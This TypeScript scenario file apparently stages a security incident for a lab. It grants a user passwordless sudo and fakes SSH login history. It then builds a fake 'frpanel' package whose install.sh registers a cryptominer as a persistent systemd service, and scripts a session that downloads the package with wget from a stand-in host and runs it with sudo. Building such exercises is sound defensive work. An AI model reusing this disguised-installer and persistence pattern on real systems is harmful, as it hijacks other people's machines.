// wget, tar, sudo ./install.sh from her usual address: what a tutorial says. Nothing of the miner was typed.
import { execFileSync } from 'node:child_process'
import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Dress } from '../../dress.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.account('sun')
  dress.write('/etc/sudoers.d/sun', 'sun ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  const key = dress.key('sun', 'sun@desk')
  dress.trust('sun', key)
  dress.logins({
    days: 20,
    guesses: 40,
    friends: [{ user: 'sun', address: '198.51.100.63', key: key.fingerprint, hours: [2, 7, 9], sudo: '/usr/bin/apt-get install -y htop' }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const { POOL, WALLET, SHOP } = stage.values
  const top = join(stage.folder, 'frpanel-0.61')
  mkdirSync(top)
  copyFileSync(join(stage.folder, 'shop/mimic'), join(top, 'helper'))
  writeFileSync(
    join(top, 'install.sh'),
    `#!/bin/sh
set -e
cd "$(dirname "$0")"
install -D -m 755 helper /usr/local/lib/frpanel/helper
printf '[Unit]\\nDescription=frpanel\\n[Service]\\nExecStart=/usr/local/lib/frpanel/helper -o ${POOL} -u ${WALLET} -p x -k\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' >/etc/systemd/system/frpanel.service
systemctl daemon-reload
systemctl -q enable --now frpanel
`,
    { mode: 0o755 },
  )
  execFileSync('tar', ['-czf', join(stage.folder, 'shop/frpanel-0.61.tar.gz'), '-C', stage.folder, 'frpanel-0.61'])
  stage.mark('occurrence')
  await stage.session('198.51.100.63', 'sun', { key: 'sun' }, [
    `wget -q http://${SHOP}/frpanel-0.61.tar.gz`,
    'tar xzf frpanel-0.61.tar.gz && cd frpanel-0.61',
    // sudo's terminal eats what is typed ahead.
    'sudo ./install.sh; exit',
  ])
}
